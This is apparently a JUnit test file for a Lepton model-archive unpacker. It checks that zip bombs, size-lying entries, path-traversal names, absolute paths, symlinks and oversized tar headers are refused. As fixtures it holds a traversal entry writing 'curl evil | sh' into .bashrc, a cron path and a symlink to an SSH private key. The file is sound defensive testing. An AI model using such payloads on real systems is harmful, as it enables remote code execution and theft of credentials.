package ai.lepton.train.pretrained;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.lepton.base.Settings;
import ai.lepton.fuzz.MemoryUse;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * A Lepton model archive is unpacked with bounds before anything reads it: crafted archives (bombs, entries that lie about
 * their size, names that leave the folder, links, headers that claim megabytes) are refused, naming the entry, and leave
 * nothing behind; a real one unpacks to the model's two files.
 */
class ModelArchiveTest {

    private static final byte[] ARCHITECTURE = "{\"family\": \"mlp\"}".getBytes(StandardCharsets.UTF_8);

    @TempDir
    Path folder;

    @AfterEach
    void defaultLimit() {
        System.clearProperty(Settings.MAX_WEIGHTS.property());
    }

    private Path unpacked() throws IOException {
        return Files.createDirectories(folder.resolve("unpacked"));
    }

    private static List<String> files(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(file -> file.getFileName().toString()).sorted().toList();
        }
    }

    /** Unpacks {@code archive}, expecting a refusal; the folder it unpacked into is left empty. */
    private String refusal(String name, byte[] archive) throws IOException {
        Path file = Files.write(folder.resolve(name), archive);
        Path into = unpacked();
        String message = assertTimeoutPreemptively(
                        Duration.ofSeconds(60),
                        () -> assertThrows(PretrainedException.class, () -> ModelArchive.unpack(file, into)))
                .getMessage();
        assertTrue(message.startsWith("pretrained: the archive " + file + " "), message);
        assertEquals(List.of(), files(into), "nothing of a refused archive is kept");
        return message;
    }

    private static void assertContains(String message, String part) {
        assertTrue(message.contains(part), "'" + part + "' in: " + message);
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.setLevel(Deflater.BEST_SPEED);
            for (var entry : entries.entrySet()) {
                out.putNextEntry(new ZipEntry(entry.getKey()));
                out.write(entry.getValue());
                out.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    /** A tar of {@code entries} (a null value: a folder), gzipped or not. */
    private static byte[] tar(Map<String, byte[]> entries, boolean gzip) {
        TarBytes tar = gzip ? TarBytes.gzipped() : TarBytes.plain();
        entries.forEach((name, content) -> {
            if (content == null) {
                tar.folder(name);
            } else {
                tar.file(name, content);
            }
        });
        return tar.bytes();
    }

    private static Map<String, byte[]> model(String prefix, byte[] parameters) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(prefix + ModelArchive.PARAMETERS, parameters);
        entries.put(prefix + "architecture.json", ARCHITECTURE);
        return entries;
    }

    @Test
    void aModelFolderInAZipOrATarUnpacksToItsTwoFilesAndNothingElse() throws IOException {
        byte[] parameters = "DJL@ parameters".getBytes(StandardCharsets.UTF_8);
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("./digits/", null);
        entries.put("./digits/README.md", "a model".getBytes(StandardCharsets.UTF_8));
        entries.putAll(model("./digits/", parameters));
        for (String name : List.of("digits.zip", "digits.tar", "digits.tar.gz", "digits.tgz")) {
            Map<String, byte[]> zipped = new LinkedHashMap<>(model("digits/", parameters));
            byte[] archive = name.endsWith(".zip") ? zip(zipped) : tar(entries, !name.endsWith(".tar"));
            Path file = Files.write(folder.resolve(name), archive);
            Path into = Files.createDirectories(folder.resolve("from-" + name));
            ModelArchive.unpack(file, into);
            assertEquals(List.of("architecture.json", ModelArchive.PARAMETERS), files(into), name);
            assertArrayEquals(parameters, Files.readAllBytes(into.resolve(ModelArchive.PARAMETERS)), name);
            assertArrayEquals(ARCHITECTURE, Files.readAllBytes(into.resolve("architecture.json")), name);
        }
    }

    @Test
    void aZipBombIsRefusedByTheSizeItDeclaresBeforeAnythingIsInflated() throws IOException {
        System.setProperty(Settings.MAX_WEIGHTS.property(), "1m");
        byte[] bomb = zip(model("", new byte[64 << 20])); // 64 MiB of zeros in about 64 KiB
        assertTrue(bomb.length < 1 << 20, bomb.length + " bytes");
        long before = MemoryUse.allocatedByThisThread();
        String message = refusal("bomb.zip", bomb);
        long allocated = MemoryUse.allocatedByThisThread() - before;
        assertContains(
                message,
                "has an entry model-0000.params of 64 MiB, more than the 1 MiB a model's parameters may"
                        + " take (LEPTON_MAX_WEIGHTS; raise it if you trust this archive and its model is that large).");
        assertTrue(allocated < 16 << 20, "refusing the bomb allocated " + allocated + " bytes");
    }

    @Test
    void aZipEntryThatInflatesPastTheSizeItDeclaresIsStoppedThere() throws IOException {
        byte[] honest = zip(model("", new byte[8 << 20]));
        byte[] liar = declaringSize(honest, ModelArchive.PARAMETERS, 1024);
        assertContains(
                refusal("liar.zip", liar),
                "has an entry model-0000.params that inflates to more than the 1 KiB it declares: the archive was"
                        + " crafted or damaged, so nothing of it was kept.");
    }

    @Test
    void entriesThatLeaveTheFolderAreAbsoluteOrLinkElsewhereAreRefused() throws IOException {
        Map<String, byte[]> escaping = model("", new byte[16]);
        escaping.put("../../.bashrc", "curl evil | sh".getBytes(StandardCharsets.UTF_8));
        assertContains(
                refusal("escaping.tar", tar(escaping, false)),
                "has an entry '../../.bashrc', which is a path that leaves the archive's folder ('..')");
        assertContains(
                refusal("escaping.zip", zip(escaping)),
                "has an entry '../../.bashrc', which is a path that leaves the archive's folder ('..')");
        Map<String, byte[]> absolute = model("", new byte[16]);
        absolute.put("/etc/cron.d/x", new byte[1]);
        assertContains(refusal("absolute.tgz", tar(absolute, true)), "which is an absolute or platform-specific path");

        assertContains(
                refusal(
                        "link.tar",
                        TarBytes.plain()
                                .symlink(ModelArchive.PARAMETERS, "/home/ada/.ssh/id_ed25519")
                                .bytes()),
                "has an entry 'model-0000.params' that is a link (to '/home/ada/.ssh/id_ed25519')");
    }

    @Test
    void aTarLongNameThatClaimsMegabytesIsRefusedWithoutBeingReadIntoMemory() throws IOException {
        byte[] archive = TarBytes.gzipped().longName(64 << 20).bytes(); // a 64 MiB name, in a 64 KiB file
        long before = MemoryUse.allocatedByThisThread();
        String message = refusal("long-name.tar.gz", archive);
        long allocated = MemoryUse.allocatedByThisThread() - before;
        assertContains(message, "goes on past what the headers of entry 1 may take (1 MiB: long names, PAX records)");
        assertTrue(allocated < 32 << 20, "refusing the long name allocated " + allocated + " bytes");
    }

    @Test
    void anArchiveOfManyEntriesOrOfNoModelIsRefusedSayingWhatToPack() throws IOException {
        Map<String, byte[]> many = model("", new byte[16]);
        for (int i = 0; i < 100; i++) {
            many.put("noise-" + i, new byte[0]);
        }
        assertContains(refusal("many.zip", zip(many)), "holds more than 64 entries");
        assertContains(refusal("many.tar", tar(many, false)), "holds more than 64 entries");

        Map<String, byte[]> noModel = Map.of("notes.txt", new byte[3]);
        assertContains(
                refusal("notes.zip", zip(noModel)), "holds no model-0000.params, so it is not a Lepton model archive");
        Map<String, byte[]> twoFolders = new LinkedHashMap<>();
        twoFolders.put("a/" + ModelArchive.PARAMETERS, new byte[16]);
        twoFolders.put("b/architecture.json", ARCHITECTURE);
        assertContains(
                refusal("two.tar", tar(twoFolders, false)),
                "holds a/model-0000.params and b/architecture.json in two folders");
        assertContains(refusal("damaged.tgz", new byte[] {1, 2, 3}), "cannot be read as the archive its name says");
    }

    /** {@code zip} with the uncompressed size {@code entry}'s records declare changed to {@code size}: a liar. */
    private static byte[] declaringSize(byte[] zip, String entry, int size) {
        ByteBuffer bytes = ByteBuffer.wrap(zip.clone()).order(ByteOrder.LITTLE_ENDIAN);
        byte[] name = entry.getBytes(StandardCharsets.UTF_8);
        for (int at = 0; at + 46 < zip.length; at++) {
            int signature = bytes.getInt(at);
            if (signature == 0x04034b50 && named(bytes, at + 30, bytes.getShort(at + 26), name)) {
                bytes.putInt(at + 22, size); // the local header, when its sizes are not in a descriptor after the data
            } else if (signature == 0x02014b50 && named(bytes, at + 46, bytes.getShort(at + 28), name)) {
                bytes.putInt(at + 24, size); // the central directory's record, which ZipFile reads
            }
        }
        return bytes.array();
    }

    private static boolean named(ByteBuffer bytes, int at, int length, byte[] name) {
        if (length != name.length || at + length > bytes.limit()) {
            return false;
        }
        for (int i = 0; i < length; i++) {
            if (bytes.get(at + i) != name[i]) {
                return false;
            }
        }
        return true;
    }
}
